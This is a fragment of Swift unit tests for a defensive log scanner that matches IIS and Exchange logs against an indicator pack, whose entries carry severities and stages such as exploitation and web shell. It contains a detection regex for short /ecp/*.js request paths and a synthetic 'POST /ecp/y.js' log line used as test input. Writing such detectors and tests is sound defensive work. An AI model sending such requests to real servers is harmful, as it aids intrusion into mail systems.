        #expect(engine.indicators(for: .oabGenerator).map(\.id) == ["PL-015", "PL-016"])
        #expect(Set(engine.indicators(for: .iisW3C).map(\.id)) ==
                ["IP-054", "IP-055", "UA-057", "IIS-059", "IIS-060", "IIS-061", "IIS-063", "IIS-065", "UA-056", "UA-058",
                 "PS-001", "PS-002", "PNS-001", "PNS-002", "WEB-001", "IIS-062", "IIS-064", "IIS-066", "IIS-078"])
        #expect(engine.indicators(for: .fileInventory).count == 16)
    }

    @Test func tenMegabyteFieldIsEvaluatedWithoutTrouble() throws {
        let engine = try builtInEngine()
        let big = String(repeating: "A", count: 10 * 1024 * 1024)
        let r = try #require(parseAll(IISLog.lines("POST", "/ecp/y.js", query: big, ua: "Mozilla/5.0+" + String(big.prefix(1024 * 1024))), format: .iisW3C).last)
        #expect(ids(engine.match(r, format: .iisW3C)) == ["IIS-060"])
    }
}

@Suite("The built-in indicator pack")
struct IndicatorPackTests {
    @Test func packIsWellFormed() throws {
        let pack = try BuiltInData.indicatorPack()
        #expect(!pack.name.isEmpty && !pack.version.isEmpty)
        #expect(pack.indicators.count == 87)
        let idList = pack.indicators.map(\.id)
        #expect(Set(idList).count == idList.count, "duplicate ids")
        for i in pack.indicators {
            #expect(!i.title.isEmpty, "\(i.id) has no title")
            #expect(!i.description.isEmpty, "\(i.id) has no description")
            // Reference-only rows (no evidence format carries their input) and BL-001 (evaluated by
            // the scanner across inventories and baselines) are the only rows without formats.
            #expect(!i.formats.isEmpty || ["PL-004", "DN-065", "CF-068", "BL-001"].contains(i.id), "\(i.id) applies to no format")
            #expect(!i.all.isEmpty || i.id == "BL-001", "\(i.id) has no condition")
            #expect(!i.field.isEmpty, "\(i.id) has no display field")
            #expect(!i.sources.isEmpty, "\(i.id) has no source")
            for s in i.sources {
                let url = URL(string: s)
                #expect(url?.scheme == "https" && url?.host?.isEmpty == false, "\(i.id): source is not an https URL: \(s)")
            }
            #expect(Severity.allCases.contains(i.severity))
            #expect(Stage.allCases.contains(i.stage))
        }
    }

    @Test func severitiesAndStagesOfKeyIndicators() throws {
        let pack = try BuiltInData.indicatorPack()
        func ind(_ id: String) throws -> Indicator { try #require(pack.indicators.first { $0.id == id }) }
        #expect(try ind("PL-001").severity == .critical && ind("PL-001").stage == .exploitation)
        #expect(try ind("PL-002").severity == .medium && ind("PL-002").stage == .attempt)
        #expect(try ind("PL-003").severity == .low && ind("PL-003").stage == .probe)
        #expect(try ind("PL-013").severity == .info)
        #expect(try ind("IIS-063").severity == .critical && ind("IIS-063").stage == .webShell)
        #expect(try ind("FP-040").severity == .low && ind("FP-040").stage == .postExploitation)
        #expect(try ind("WEB-001").severity == .low && ind("WEB-001").stage == .probe)
    }

    @Test func everyListIsUsedAndEveryReferencedListExists() throws {
        let pack = try BuiltInData.indicatorPack()
        let listOps: Set<Condition.Operator> = [.inList, .notInList, .userAgentInList]
        let referenced = Set(pack.indicators.flatMap(\.all).filter { listOps.contains($0.op) }.compactMap(\.values.first))
        #expect(referenced.isSubset(of: Set(pack.lists.keys)))
        for (name, values) in pack.lists { #expect(!values.isEmpty, "list \(name) is empty") }
    }

    static func pack(_ conditions: [Condition], id: String = "T-001", lists: [String: [String]] = [:]) -> IndicatorPack {
        IndicatorPack(name: "test", version: "1", description: nil, lists: lists, indicators: [
            Indicator(id: id, title: "t", description: "d", severity: .high, stage: .attempt, cve: nil, formats: [.iisW3C],
                      field: "cs-uri-stem", all: conditions, sources: ["https://example.org/"], falsePositives: nil),
        ])
    }

    @Test func unknownListThrows() {
        #expect(throws: IndicatorPackError.unknownList(indicator: "T-001", list: "no-such-list")) {
            try RuleEngine(pack: Self.pack([Condition(field: "c-ip", op: .inList, values: ["no-such-list"])]))
        }
        #expect(throws: IndicatorPackError.unknownList(indicator: "T-001", list: "uas")) {
            try RuleEngine(pack: Self.pack([Condition(field: "user-agent", op: .userAgentInList, values: ["uas"])],
                                           lists: ["UAS": ["x"]]))
        }
    }

    @Test func badRegexThrows() {
        #expect(throws: IndicatorPackError.badRegex(indicator: "T-001", pattern: "^/ecp/([a-z]{1,3}\\.js$")) {
            try RuleEngine(pack: Self.pack([Condition(field: "cs-uri-stem", op: .regex, values: ["^/ecp/([a-z]{1,3}\\.js$"])]))
        }
    }

    @Test func unknownPredicateThrows() {
        #expect(throws: IndicatorPackError.unknownPredicate(indicator: "T-001", predicate: "isEvil")) {
            try RuleEngine(pack: Self.pack([Condition(field: "cs-uri-stem", op: .predicate, values: ["isEvil"])]))
        }
    }

    @Test func duplicateIDThrows() {
        var pack = Self.pack([Condition(field: "cs-uri-stem", op: .equals, values: ["/x"])], id: "PL-001")
        pack.indicators.append(pack.indicators[0])
        #expect(throws: IndicatorPackError.duplicateID("PL-001")) { try RuleEngine(pack: pack) }
    }

    @Test func malformedPackJSONIsPositioned() throws {
        let broken = "{\n  \"name\": \"x\",\n  \"version\": 1\n}\n"
        do {
            _ = try BuiltInData.decode(IndicatorPack.self, Array(broken.utf8), name: "custom.json")
            Issue.record("a number where a string belongs must not decode")
        } catch let IndicatorPackError.malformed(file, line, column, _) {
            #expect(file == "custom.json")
            #expect(line == 3 && column == 14)
        }
        let truncated = "{\n  \"name\": \"x\",\n  \"version\": \"1\","
        #expect(throws: IndicatorPackError.malformed(file: "t.json", line: 3, column: 18, message: "expected a quoted key")) {
            _ = try BuiltInData.decode(IndicatorPack.self, Array(truncated.utf8), name: "t.json")
        }
        let twoOperators = #"{"field": "c-ip", "equals": "1.2.3.4", "contains": "1"}"#
        #expect(throws: IndicatorPackError.self) {
            _ = try BuiltInData.decode(Condition.self, Array(twoOperators.utf8), name: "c.json")
        }
    }

    @Test func conditionRoundTripsThroughJSON() throws {
        let conditions = [
            Condition(field: "cs-uri-stem", op: .likeAny, values: ["/a/*", "/b/*"]),
            Condition(field: "AuthenticatedUser", op: .empty, flag: false),
            Condition(field: "HttpStatus", op: .equals, values: ["200"]),
        ]
        let data = try JSONEncoder().encode(conditions)
        #expect(try JSONDecoder().decode([Condition].self, from: data) == conditions)
    }

    @Test func customPackOperators() throws {
        let pack = IndicatorPack(name: "ops", version: "1", description: nil, lists: ["ips": ["10.0.0.1"]], indicators: [
            Indicator(id: "E-1", title: "t", description: "d", severity: .low, stage: .probe, cve: nil, formats: [.iisW3C],
                      field: "cs-username", all: [Condition(field: "cs-username", op: .empty, flag: true)],
                      sources: ["https://example.org/"], falsePositives: nil),
            Indicator(id: "E-2", title: "t", description: "d", severity: .low, stage: .probe, cve: nil, formats: [.iisW3C],
                      field: "c-ip", all: [Condition(field: "c-ip", op: .notInList, values: ["ips"]),
                                           Condition(field: "cs-uri-stem", op: .startsWith, values: ["/OWA/"]),
                                           Condition(field: "cs-uri-stem", op: .endsWith, values: ["/"]),
                                           Condition(field: "no-such-field", op: .notContains, values: ["x"])],
                      sources: ["https://example.org/"], falsePositives: nil),
        ])
        let engine = try RuleEngine(pack: pack)
        func run(_ line: String) throws -> Set<String> { try matchIDs(engine, IISLog.header + [line], .iisW3C) }
        #expect(try run(IISLog.line("GET", "/owa/", user: "-", ip: "10.0.0.2")) == ["E-1", "E-2"])
        #expect(try run(IISLog.line("GET", "/owa/", user: "CORP\\alice", ip: "10.0.0.1")) == [])
    }
}
